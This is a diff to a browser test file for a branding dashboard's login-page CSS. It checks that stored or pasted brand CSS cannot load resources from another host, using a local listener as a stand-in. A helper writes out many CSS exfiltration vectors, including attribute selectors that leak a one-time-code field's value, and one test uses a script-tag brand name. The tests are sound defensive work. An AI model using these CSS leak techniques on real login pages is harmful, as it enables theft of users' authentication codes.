@@ -4,29 +4,31 @@ The server is ``streamlit run dashboard.py`` over a new SQLite file loaded with
 ``python -m core seed``; the browser carries a signed ``mac_session`` cookie for the demo
 account manager (``tests.factories.session_token`` + ``web_session.cookie_value``), so no
 sign-in pages are involved. Screenshots go to tests/artifacts/branding-*.png.
+An "outside host" is a plain listener on 127.0.0.1 that counts the connections it gets.
 Without Chromium the test is skipped with the reason, except when CI is set: then it fails.
 """
 
 from __future__ import annotations
 
+import contextlib
 import os
 import re
 import socket
 import subprocess
+import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import quote
 
-import pyotp
 import pytest
 import requests
-from sqlalchemy import select
+from sqlalchemy import select, update
 
-from core.crypto import decrypt_secret
 from core.db import get_engine, session_scope
-from core.models import Brand, User
-from core.queries import UserSearch, brand_names, enrolled_user_of_brand, search_users
+from core.login_preview import _page, preview_data_url
+from core.models import Brand
+from core.queries import brand_names
 from tests.browser.chromium import ARTIFACTS, CHROMIUM, IDLE, launched
 from tests.factories import make_brand, session_token
 
@@ -34,6 +36,7 @@ ROOT = Path(__file__).resolve().parents[2]
 PY = str(ROOT / ".venv" / "bin" / "python")
 STREAMLIT = str(ROOT / ".venv" / "bin" / "streamlit")
 HOSTILE_NAME = "<script>alert('name')</script> Mail"
+LEGACY_NAME = "Legacy Mail"  # a brand whose CSS was stored before the no-outside-URL rule
 HEADER_BG = "rgb(16, 42, 92)"  # #102a5c, a dark blue
 BRANDED_CSS = """\
 #login-form .box-inner .modal {
@@ -90,15 +93,14 @@ def site(tmp_path_factory) -> Iterator[dict]:
     engine = get_engine(url)
     with session_scope(engine, write=True) as s:
         make_brand(s, HOSTILE_NAME, allow_2fa=True)
+        make_brand(s, LEGACY_NAME)
         token = session_token(s, "manager")
     with session_scope(engine) as s:
         brand = next(n for n in brand_names(s) if n != HOSTILE_NAME)
-        # The mailbox the page drives the preview with: the brand's enrolled one that core picks.
-        first = search_users(s, UserSearch(twofa="on", status="active"), limit=1)[0]
-        brand_id = s.scalars(select(Brand.id).where(Brand.name == first["brand"])).one()
-        demo = {"brand": first["brand"], "email": enrolled_user_of_brand(s, brand_id)}
-        user = s.scalars(select(User).where(User.email == demo["email"])).one()
-        demo_secret = decrypt_secret(user.totp_secret)
+        # A brand that asks for codes: the preview is driven with its demo mailbox.
+        demo_brand = s.scalars(
+            select(Brand.name).where(Brand.allow_2fa.is_(True), Brand.name != HOSTILE_NAME).order_by(Brand.id)
+        ).first()
     engine.dispose()
 
     port = _free_port()
@@ -125,10 +127,11 @@ def site(tmp_path_factory) -> Iterator[dict]:
                 time.sleep(0.3)
             yield {
                 "base": base,
+                "url": url,
                 "cookie": cookie_value(token),
                 "brand": brand,
                 "log": log_path,
-                "demo": {"brand": demo["brand"], "email": demo["email"], "secret": demo_secret},
+                "demo_brand": demo_brand,
             }
         finally:
             proc.terminate()
@@ -253,13 +256,17 @@ def test_script_in_the_brand_name_or_the_css_never_runs(site, page):
     assert "Traceback" not in site["log"].read_text()
 
 
-def test_a_code_from_the_demo_users_authenticator_drives_the_pop_up(site, page):
-    demo = site["demo"]
-    _open(page, site, demo["brand"])
+def test_the_code_shown_for_the_demo_mailbox_drives_the_pop_up(site, page):
+    brand = site["demo_brand"]
+    _open(page, site, brand)
     _paste(page, BRANDED_CSS)
     _wait_for(lambda: _header_bg(page), HEADER_BG)
-    page.get_by_text(demo["email"]).first.wait_for()
-    page.get_by_label("6-digit code").fill(pyotp.TOTP(demo["secret"]).now())
+    caption = page.get_by_text(
+        re.compile(r"^Driving preview@.*\.invalid, the demo mailbox \(not a real customer\)")
+    )
+    caption.wait_for()
+    code = re.search(r"Its current code is (\d{6})", caption.inner_text()).group(1)
+    page.get_by_label("6-digit code").fill(code)
     page.get_by_role("button", name="Verify").click()
     modal = _preview(page).locator(".modal.state-success")
     modal.wait_for(timeout=30_000)
@@ -269,3 +276,147 @@ def test_a_code_from_the_demo_users_authenticator_drives_the_pop_up(site, page):
     page.wait_for_timeout(500)
     page.screenshot(path=str(ARTIFACTS / "branding-success.png"))
     assert page.dialogs == []  # type: ignore[attr-defined]
+
+
+# --- nothing loads from another host ------------------------------------------------------
+
+
+class _Listener:
+    """A plain TCP listener on 127.0.0.1 standing in for an outside host: it counts the
+    connections it accepts (a browser that tried https:// still connects before TLS)."""
+
+    def __init__(self) -> None:
+        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self._sock.bind(("127.0.0.1", 0))
+        self._sock.listen(128)
+        self.port = self._sock.getsockname()[1]
+        self.peers: list[tuple[str, int]] = []
+        self._arrived = threading.Condition()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, peer = self._sock.accept()
+            except OSError:  # closed
+                return
+            conn.close()
+            with self._arrived:
+                self.peers.append(peer)
+                self._arrived.notify_all()
+
+    def connections_so_far(self) -> int:
+        """How many connections arrived before now. The kernel queues connections in
+        order and the listener accepts them in that order, so once a marker connection
+        of our own is accepted, every earlier one has been counted."""
+        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as marker:
+            mine = marker.getsockname()
+            with self._arrived:
+                assert self._arrived.wait_for(lambda: mine in self.peers, timeout=10)
+                others = [p for p in self.peers if p != mine]
+                self.peers.remove(mine)
+        return len(others)
+
+    def close(self) -> None:
+        with contextlib.suppress(OSError):
+            self._sock.shutdown(socket.SHUT_RDWR)  # wakes the accept() of the thread
+        self._sock.close()
+        self._thread.join(timeout=10)
+
+
+@pytest.fixture
+def outside_host() -> Iterator[_Listener]:
+    listener = _Listener()
+    yield listener
+    listener.close()
+
+
+def _reaching_css(host: str) -> str:
+    """CSS that reaches ``host`` in every way the checker accepted before the rule that
+    brand CSS references no URL that leaves the page (https was allowed then)."""
+    return f"""\
+@namespace leak url({host}/ns);  /* prefixed: a default namespace would unmatch every rule */
+@font-face {{ font-family: Leak; src: url({host}/font.woff2) format("woff2"); }}
+#login-form .box-inner .modal {{
+  background-image: url({host}/modal.png);
+  cursor: url("{host}/cursor.cur"), auto;
+}}
+#login-form .box-inner .modalheader {{
+  font-family: Leak, sans-serif;
+  background-image: image-set("{host}/set.png" 1x);
+  -webkit-mask-image: url({host}/mask.png);
+}}
+#login-form .box-inner .instruction {{ display: list-item; list-style: url({host}/item.png); }}
+#login-form .box-inner .status {{ background-image: cross-fade(url({host}/fade.png) 50%, #fff); }}
+#login-form .box-inner .modalbody {{ & .buttons {{ background-image: url({host}/nested.png); }} }}
+@media screen {{ #login-form .box-inner .login-title {{ background-image: url({host}/media.png); }} }}
+@supports (display: grid) {{ #login-form {{ background-image: -webkit-image-set("{host}/wk.png" 1x); }} }}
+input[value=""], #otp-code[value^="1"] {{ background-image: url({host}/key.png); }}
+"""
+
+
+def _rendered(frame) -> None:
+    """Wait until the preview document has loaded (images it fetches hold its load event)
+    and its fonts are settled."""
+    frame.locator(".modalheader").wait_for(timeout=30_000)
+    body = frame.locator("body")
+    _wait_for(lambda: body.evaluate("() => document.readyState"), "complete")
+    _wait_for(lambda: body.evaluate("async () => (await document.fonts.ready).status"), "loaded")
+
+
+def test_a_stored_brand_css_from_before_the_rule_reaches_no_outside_host(site, page, outside_host):
+    css = _reaching_css(f"https://127.0.0.1:{outside_host.port}")
+    engine = get_engine(site["url"])
+    with session_scope(engine, write=True) as s:  # straight into the row: no checker on the way
+        s.execute(update(Brand).where(Brand.name == LEGACY_NAME).values(custom_login_css=css))
+    engine.dispose()
+    _open(page, site, LEGACY_NAME)
+    _rendered(_preview(page))
+    page.locator(IDLE).wait_for()
+    assert outside_host.connections_so_far() == 0
+    page.get_by_text("The saved CSS fails today's checks too").wait_for()
+    page.get_by_text(re.compile(r"loads from another host; only data: images under 32 KiB")).first.wait_for()
+
+
+def test_the_preview_policy_alone_stops_css_that_got_past_the_checker(site, page, outside_host):
+    """The Content-Security-Policy holds by itself: the page is built with the hostile CSS
+    as it is (what a checker miss would give), in a frame of a page served by the console."""
+    host = f"127.0.0.1:{outside_host.port}"
+    css = (
+        _reaching_css(f"https://{host}")
+        + f"@import url(http://{host}/import.css);\n"
+        + f"#login-form .box-inner .modal {{ border-image: url(http://{host}/b.png) 30 round; }}\n"
+    )
+    src = preview_data_url(_page(brand_name="Brand", css=css, state="prompt", dark=False, message=None))
+    page.goto(f"{site['base']}/_stcore/health")  # an origin of the console
+    page.set_content(f'<iframe title="Preview of Brand" src="{src}" width="800" height="600"></iframe>')
+    _rendered(_preview(page))
+    assert outside_host.connections_so_far() == 0
+
+
+def test_saving_css_that_reaches_another_host_is_refused_with_the_reason(site, page, outside_host):
+    engine = get_engine(site["url"])
+    with session_scope(engine) as s:
+        before = s.scalars(select(Brand).where(Brand.name == site["brand"])).one()
+        before = (before.custom_login_css, before.version)
+    _open(page, site, site["brand"])
+    _paste(
+        page,
+        BRANDED_CSS
+        + f"#login-form .box-inner .modal {{ background: url(https://127.0.0.1:{outside_host.port}/x.png) }}\n",
+    )
+    page.get_by_role("button", name="Save").click()
+    page.get_by_text("Not saved: the CSS was refused with 1 error").wait_for(timeout=30_000)
+    line = len(BRANDED_CSS.splitlines()) + 1
+    reason = f"url(https://127.0.0.1:{outside_host.port}/x.png) loads from another host; only data: images under 32 KiB are allowed."
+    row = page.locator("[data-testid='stTable'] tr", has_text=reason)
+    row.wait_for()
+    assert row.locator("td, th").first.inner_text().strip() == str(line)
+    with session_scope(engine) as s:
+        after = s.scalars(select(Brand).where(Brand.name == site["brand"])).one()
+        assert (after.custom_login_css, after.version) == before
+    engine.dispose()
+    _rendered(_preview(page))
+    page.locator(IDLE).wait_for()
+    assert outside_host.connections_so_far() == 0
